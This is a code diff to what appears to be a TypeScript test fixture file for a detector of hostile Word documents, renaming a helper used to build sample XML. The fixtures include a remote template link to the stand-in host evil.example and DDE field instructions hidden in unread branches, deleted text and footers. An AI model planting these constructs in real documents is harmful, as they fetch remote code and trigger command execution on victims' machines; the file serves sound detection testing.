@@ -10,7 +10,7 @@ const linkedTo = (type: string, target: string) =>
   );
 const utf16 = (words: string) => Buffer.concat([Buffer.from("fffe", "hex"), Buffer.from(words, "utf16le")]);
 const template = `<Relationships><Relationship Id="r9" Type="${types}/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>`;
-const said = (name: string, words: string) => `<w:${name}>${words}</w:${name}>`;
+const element = (name: string, words: string) => `<w:${name}>${words}</w:${name}>`;
 const runs = (...texts: string[]) =>
   `<w:document xmlns:w="w"><w:fldChar w:fldCharType="begin"/>${texts.map((words) => `<w:instrText>${words}</w:instrText>`).join("")}<w:fldChar w:fldCharType="end"/></w:document>`;
 const cell = (formula: string) =>
@@ -115,15 +115,15 @@ export const hiddenOffices: readonly BadFile[] = [
     "file-active",
   ]),
   ...[
-    ["in a branch that nobody reads", `<mc:Choice>${said("instrText", "x")}</mc:Choice>`],
+    ["in a branch that nobody reads", `<mc:Choice>${element("instrText", "x")}</mc:Choice>`],
     ["ended in a branch that nobody reads", '<mc:Choice><w:fldChar w:fldCharType="separate"/></mc:Choice>'],
-    ["in what was struck out", said("delInstrText", "x")],
+    ["in what was struck out", element("delInstrText", "x")],
     ["in an instruction's own branch", "<w:instrText><mc:Choice>x</mc:Choice></w:instrText>"],
   ].map(([where = "", decoy = ""], at): BadFile => [
     `a field that is broken ${where}`,
     `hidden-x${at}.docx`,
     part(
-      `<w:ftr xmlns:w="w" xmlns:mc="mc"><w:fldChar w:fldCharType="begin"/>${said("instrText", "DDE")}${decoy}${said("instrText", "AUTO c")}<w:fldChar w:fldCharType="end"/></w:ftr>`,
+      `<w:ftr xmlns:w="w" xmlns:mc="mc"><w:fldChar w:fldCharType="begin"/>${element("instrText", "DDE")}${decoy}${element("instrText", "AUTO c")}<w:fldChar w:fldCharType="end"/></w:ftr>`,
     ),
     "file-active",
   ]),
